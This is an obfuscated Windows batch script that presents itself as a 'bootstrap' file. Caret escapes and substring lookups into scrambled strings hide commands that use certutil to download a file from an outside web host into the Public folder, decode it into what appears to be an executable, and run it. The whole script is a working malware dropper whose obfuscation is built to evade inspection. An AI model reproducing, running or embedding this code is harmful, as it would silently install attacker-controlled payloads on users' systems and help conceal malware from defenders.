REM bootstrap 8452 v3
@echo off
@e^cho ^of^f
s^et "icnv=sv6Vu-Cp/feXnxgy0hL:Bitwr\cAPlm.oaIU"
%icnv:~26,1%%icnv:~-26,1%%icnv:~24,1%%icnv:~-14,1%%icnv:~4,1%%icnv:~22,1%%icnv:~21,1%%icnv:~29,1% %icnv:~5,1%%icnv:~4,1%%icnv:~24,1%%icnv:~29,1%%icnv:~26,1%%icnv:~33,1%%icnv:~-10,1%%icnv:~17,1%%icnv:~10,1% %icnv:~5,1%%icnv:~-27,1% %icnv:~-19,1%%icnv:~-14,1%%icnv:~22,1%%icnv:~7,1%%icnv:~19,1%%icnv:~-28,1%%icnv:~8,1%%icnv:~9,1%%icnv:~21,1%%icnv:~-7,1%%icnv:~10,1%%icnv:~0,1%%icnv:~31,1%%icnv:~0,1%%icnv:~-21,1%%icnv:~12,1%%icnv:~26,1%%icnv:~5,1%%icnv:~-36,1%%icnv:~1,1%%icnv:~26,1%%icnv:~31,1%%icnv:~10,1%%icnv:~13,1%%icnv:~33,1%%icnv:~-6,1%%icnv:~7,1%%icnv:~-7,1%%icnv:~10,1%%icnv:~8,1%%icnv:~7,1%%icnv:~31,1%%icnv:~-14,1%%icnv:~13,1%%icnv:~22,1% %PUBLIC%%icnv:~25,1%%icnv:~-29,1%%icnv:~31,1%%icnv:~22,1%%icnv:~13,1%%icnv:~22,1%
@^echo off
^set "apbt=t1d0e\EiIO.-rBxoSL4PuplcUTCh"
%apbt:~23,1%%apbt:~-24,1%%apbt:~12,1%%apbt:~-28,1%%apbt:~20,1%%apbt:~0,1%%apbt:~-21,1%%apbt:~22,1% %apbt:~11,1%%apbt:~2,1%%apbt:~4,1%%apbt:~-5,1%%apbt:~15,1%%apbt:~-26,1%%apbt:~-24,1% %PUBLIC%%apbt:~5,1%%apbt:~21,1%%apbt:~10,1%%apbt:~0,1%%apbt:~14,1%%apbt:~0,1% %PUBLIC%%apbt:~5,1%%apbt:~-7,1%%apbt:~10,1%%apbt:~-24,1%%apbt:~14,1%%apbt:~4,1%
@e^cho o^ff
s^e^t "wzgl=.iCspgqBJ3\IfxUePLt"
%PUBLIC%%wzgl:~-9,1%%wzgl:~4,1%%wzgl:~0,1%%wzgl:~-4,1%%wzgl:~13,1%%wzgl:~15,1%
